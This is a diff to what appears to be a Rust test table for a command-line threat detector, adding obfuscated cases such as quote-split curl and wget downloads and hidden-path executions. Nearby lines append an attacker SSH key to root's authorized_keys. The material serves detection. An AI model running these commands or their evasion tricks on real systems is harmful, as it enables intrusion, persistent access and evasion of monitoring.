@@ -51,6 +51,12 @@ const POSITIVE: &[(&str, &[K])] = &[
     ("bash /var/tmp/x.sh", &[K::TempExecution]),
     ("/root/.../x", &[K::TempExecution]),
     ("\"/usr/share/ /sshd\" -D", &[K::TempExecution]),
+    // Quoting that hides a trigger or a blank directory name from the raw text.
+    ("' /bin/sh", &[K::TempExecution]),
+    ("/root/' '/x", &[K::TempExecution]),
+    ("\\ /x", &[K::TempExecution]),
+    ("c''url http://198.51.100.2/x", &[K::Download]),
+    ("w\"g\"et http://198.51.100.2/x", &[K::Download]),
     // Accounts, keys, privileges.
     ("echo ssh-rsa AAAAB3NzaC1yc2E attacker >> /root/.ssh/authorized_keys", &[K::SshKeyAdd]),
     ("curl -s http://x/k -o ~/.ssh/authorized_keys", &[K::SshKeyAdd]),
